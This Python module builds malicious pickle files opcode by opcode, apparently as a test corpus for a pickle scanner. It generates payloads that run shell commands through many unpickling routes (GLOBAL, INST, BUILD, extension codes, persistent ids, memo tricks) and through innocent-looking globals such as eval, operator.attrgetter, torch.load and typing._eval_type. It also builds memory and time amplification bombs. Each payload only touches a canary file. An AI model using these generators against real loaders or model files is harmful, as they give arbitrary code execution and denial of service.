"""Pickles written opcode by opcode: payloads that run code by every route a pickle has,
globals that look harmless, amplification, and the numbers that make an unpickler allocate.

A *body* is opcodes that push one value; :func:`wrap` makes a whole pickle of the dict
``{key: body}``, in any protocol. Every payload tries to create the corpus's canary file,
so a test that finds the canary knows something ran.
"""

from __future__ import annotations

import copyreg
import struct
from dataclasses import dataclass

# Extension codes registered in this process (copyreg) for the EXT1/2/4 routes, each to a
# global that runs a shell command (copyreg allows one code per global).
EXTENSION_CODES = {"EXT1": 0xF1, "EXT2": 0xF1F2, "EXT4": 0x7FF1F2F3}
_EXTENDED = {"EXT1": ("posix", "system"), "EXT2": ("os", "system"), "EXT4": ("subprocess", "getoutput")}


def register_extensions() -> None:
    """Register the extension codes, so that pickle.loads here would run those routes."""
    for route, code in EXTENSION_CODES.items():
        if copyreg._inverted_registry.get(code) is None:  # type: ignore[attr-defined]
            copyreg.add_extension(*_EXTENDED[route], code)


def text(value: str, protocol: int) -> bytes:
    """A string push: UNICODE (protocol 0/1), BINUNICODE (2, 3), SHORT_BINUNICODE (4+)."""
    raw = value.encode("utf-8")
    if protocol < 2:
        return b"V" + value.encode("raw_unicode_escape") + b"\n"
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def global_(module: str, name: str, protocol: int, *, stacked: bool = False) -> bytes:
    """A global push: GLOBAL, or STACK_GLOBAL of two pushed strings (protocol 4+)."""
    if stacked:
        return text(module, protocol) + text(name, protocol) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def args(protocol: int, *pushes: bytes) -> bytes:
    """A tuple of the pushes."""
    if protocol >= 2 and len(pushes) <= 3:
        return b"".join(pushes) + (b")", b"\x85", b"\x86", b"\x87")[len(pushes)]
    return b"(" + b"".join(pushes) + b"t"


def mapping(protocol: int, key: bytes, value: bytes) -> bytes:
    """A one-entry dict."""
    if protocol == 0:
        return b"(d" + key + value + b"s"
    return b"}" + key + value + b"s"


def call(function: bytes, protocol: int, *pushes: bytes) -> bytes:
    """REDUCE: ``function(*pushes)``."""
    return function + args(protocol, *pushes) + b"R"


def wrap(body: bytes, protocol: int, key: str = "x") -> bytes:
    """A whole pickle of ``{key: <body>}``."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol == 0:
        return head + b"(d" + text(key, 0) + body + b"s."
    return head + b"}" + text(key, protocol) + body + b"s."


@dataclass(frozen=True)
class Route:
    """One way a pickle calls ``posix.system`` (or any callable) with an argument."""

    name: str
    protocols: tuple[int, ...]


def route_body(route: str, command: str, protocol: int) -> bytes:
    """A body that runs ``posix.system(command)`` when unpickled, by ``route``."""
    system = global_("posix", "system", protocol)
    argument = text(command, protocol)
    if route == "GLOBAL":
        return call(system, protocol, argument)
    if route == "STACK_GLOBAL":
        return call(global_("posix", "system", protocol, stacked=True), protocol, argument)
    if route == "INST":
        return b"(" + argument + b"iposix\nsystem\n"
    if route == "OBJ":
        return b"(" + system + argument + b"o"
    if route in ("NEWOBJ", "NEWOBJ_EX"):
        partial = global_("functools", "partial", protocol)
        made = partial + args(protocol, system, argument) + (b"\x81" if route == "NEWOBJ" else b"}\x92")
        return made + b")R"
    if route == "BUILD":
        # An object whose instance attribute __setstate__ is the callable: the next BUILD
        # calls it with the state.
        namespace = call(global_("argparse", "Namespace", protocol), protocol)
        slots = args(protocol, b"N", mapping(protocol, text("__setstate__", protocol), system))
        return namespace + slots + b"b" + argument + b"b"
    if route in EXTENSION_CODES:
        code = EXTENSION_CODES[route]
        width = {"EXT1": 1, "EXT2": 2, "EXT4": 4}[route]
        extension = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width] + code.to_bytes(width, "little")
        return call(extension, protocol, argument)
    if route == "BINPERSID":
        # The persistent id is built by a call: building it runs the code.
        return call(system, protocol, argument) + b"Q"
    if route == "PERSID":
        # A legacy module id names a class; torch's legacy loader returns it, and REDUCE calls it.
        pid = args(protocol, text("module", protocol), system, b"N", b"N")
        return pid + b"Q" + args(protocol, argument) + b"R"
    if route == "MEMO":
        # The callable is memoized, dropped, and fetched back by index before the call.
        return system + b"q\xc8" + b"0" + b"h\xc8" + args(protocol, argument) + b"R"
    raise ValueError(route)


ROUTES = [
    Route("GLOBAL", (0, 1, 2, 3, 4, 5)),
    Route("STACK_GLOBAL", (4, 5)),
    Route("INST", (0, 1, 2, 4)),
    Route("OBJ", (1, 2, 4)),
    Route("NEWOBJ", (2, 3, 4, 5)),
    Route("NEWOBJ_EX", (4, 5)),
    Route("BUILD", (0, 2, 4)),
    Route("EXT1", (2, 4)),
    Route("EXT2", (2,)),
    Route("EXT4", (2,)),
    Route("BINPERSID", (2, 4)),
    Route("PERSID", (2,)),
    Route("MEMO", (2, 5)),
]


def harmless_looking(canary: str, files: dict[str, str]) -> dict[str, tuple[int, bytes]]:
    """(protocol, body) calling globals that look harmless and are not; ``files`` holds the
    helper files some use (a script, a hub folder, an .npy, a malicious .pt)."""
    p = 2
    touch = f"open({canary!r}, 'w').close()"
    shell = text(f"touch {canary}", p)
    os_module = call(global_("builtins", "__import__", p), p, text("os", p))
    argv = b"]" + text("touch", p) + b"a" + text(canary, p) + b"a"

    def keyword_partial(function: bytes, key: str, value: bytes) -> bytes:  # protocol 4
        return (
            global_("functools", "partial", 4) + args(4, function) + mapping(4, text(key, 4), value) + b"\x92"
        )

    inner = wrap(route_body("GLOBAL", f"touch {canary}", 2), 2).decode("latin1")
    encoded = call(global_("_codecs", "encode", p), p, text(inner, p), text("latin1", p))
    return {
        "builtins.getattr": (
            p,
            call(global_("builtins", "getattr", p), p, os_module, text("system", p)) + args(p, shell) + b"R",
        ),
        "builtins.eval": (p, call(global_("builtins", "eval", p), p, text(touch, p))),
        "builtins.exec": (p, call(global_("builtins", "exec", p), p, text(touch, p))),
        "builtins.__import__": (p, call(global_("builtins", "__import__", p), p, text("this", p))),
        "builtins.open": (p, call(global_("builtins", "open", p), p, text(canary, p), text("w", p))),
        "torch.load": (
            4,
            call(
                keyword_partial(global_("torch", "load", 4), "weights_only", b"\x89"), 4, text(files["pt"], 4)
            ),
        ),
        "torch.hub.load": (
            4,
            call(
                keyword_partial(global_("torch.hub", "load", 4), "source", text("local", 4)),
                4,
                text(files["hub"], 4),
                text("entry", 4),
            ),
        ),
        "functools.partial": (
            p,
            call(global_("functools", "partial", p), p, global_("posix", "system", p), shell)
            + args(p)
            + b"R",
        ),
        "operator.attrgetter": (
            p,
            call(global_("operator", "attrgetter", p), p, text("system", p))
            + args(p, os_module)
            + b"R"
            + args(p, shell)
            + b"R",
        ),
        "operator.methodcaller": (
            p,
            call(global_("operator", "methodcaller", p), p, text("system", p), shell)
            + args(p, os_module)
            + b"R",
        ),
        "numpy.load": (p, call(global_("numpy", "load", p), p, text(files["npy"], p), b"N", b"\x88")),
        "typing._eval_type": (
            p,
            call(
                global_("typing", "_eval_type", p),
                p,
                call(
                    global_("typing", "ForwardRef", p),
                    p,
                    text(f"__import__('os').system('touch {canary}')", p),
                ),
                b"}",
                b"}",
            ),
        ),
        "runpy.run_path": (p, call(global_("runpy", "run_path", p), p, text(files["script"], p))),
        "subprocess.call": (p, call(global_("subprocess", "call", p), p, argv)),
        "subprocess.Popen": (p, call(global_("subprocess", "Popen", p), p, argv)),
        "os.system": (p, call(global_("os", "system", p), p, shell)),
        "nt.system": (p, call(global_("nt", "system", p), p, shell)),
        "pickle.loads": (p, call(global_("pickle", "loads", p), p, encoded)),
    }


def amplification() -> dict[str, bytes]:
    """Whole pickles (protocol 2 unless said) that would make an unpickler, or a walk over
    what it built, take far too long or far too much memory."""
    p = 2
    laughs = b"X\x03\x00\x00\x00lol" + b"q\x00"
    for level in range(1, 41):  # each level a list of two references to the one below
        below = bytes([level - 1])
        laughs += b"0(h" + below + b"h" + below + b"lq" + bytes([level])
    nested = b"(" * 5000 + b"N" + b"l" * 5000  # 5,000 lists, each inside the next
    cycle = b"]q\x00h\x00a"  # a list that holds itself
    return {
        "memo fan-out 2**40 paths to a string": wrap(laughs, p),
        "memo fan-out dict of dicts": wrap(_dict_laughs(34), p),
        "LONG_BINPUT 2**31-1": wrap(b"Nr\xff\xff\xff\x7f", p),
        "LONG_BINPUT 2**27": wrap(b"Nr\x00\x00\x00\x08", p),
        "PUT 10**12 (text)": wrap(b"Np1000000000000\n", 0),
        "BINBYTES8 2**63": wrap(b"\x8e" + struct.pack("<Q", 1 << 63), 4),
        "BINBYTES8 2**64-1": wrap(b"\x8e" + struct.pack("<Q", (1 << 64) - 1), 4),
        "BINUNICODE8 2**40": wrap(b"\x8d" + struct.pack("<Q", 1 << 40) + b"abc", 4),
        "BYTEARRAY8 2**40": wrap(b"\x96" + struct.pack("<Q", 1 << 40), 5),
        "BINBYTES 4 GiB": wrap(b"B\xff\xff\xff\xff", 3),
        "FRAME 2**62": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
        "LONG4 a 64 MiB integer": wrap(b"\x8b" + struct.pack("<i", 1 << 26) + b"\x01" * 64, p),
        "INT of 100,000 digits": wrap(b"I" + b"9" * 100_000 + b"\n", 0),
        "bytearray(2**42)": wrap(
            call(global_("builtins", "bytearray", p), p, b"\x8a\x06" + (1 << 42).to_bytes(6, "little")), p
        ),
        "set() of a memoized list, 200 times": wrap(_repeated_sets(), p),
        "complex of a long string": wrap(
            call(global_("builtins", "complex", p), p, text("1" * 100_000, p)), p
        ),
        "slice of strings": wrap(call(global_("builtins", "slice", p), p, text("a", p), text("b", p)), p),
        "OrderedDict of a string": wrap(call(global_("collections", "OrderedDict", p), p, text("ab", p)), p),
        "_codecs.encode utf-7": wrap(
            call(global_("_codecs", "encode", p), p, text("x", p), text("utf-7", p)), p
        ),
        "5,000 nested lists": wrap(nested, p),
        "a list that holds itself": wrap(cycle, p),
        "out-of-band buffer": wrap(b"\x97", 5),
        "protocol 9": b"\x80\x09N.",
        "unknown opcode": wrap(b"\xff", p),
        "no STOP": b"\x80\x02}",
        "trailing bytes after STOP": wrap(b"N", p) + b"junk",
    }


def _repeated_sets() -> bytes:
    """200 calls of set() on one memoized list of 100,000 Nones: 20 million elements built
    from 200 kB of pickle."""
    body = (
        b"("
        + b"N" * 100_000
        + b"lq\x00"
        + b"("
        + b"".join(call(global_("builtins", "set", 2), 2, b"h\x00") for _ in range(200))
        + b"l"
    )
    return body


def _dict_laughs(levels: int) -> bytes:
    body = b"}q\x00"
    for level in range(1, levels + 1):
        below = bytes([level - 1])
        body += b"0}(" + text("a", 2) + b"h" + below + text("b", 2) + b"h" + below + b"uq" + bytes([level])
    return body
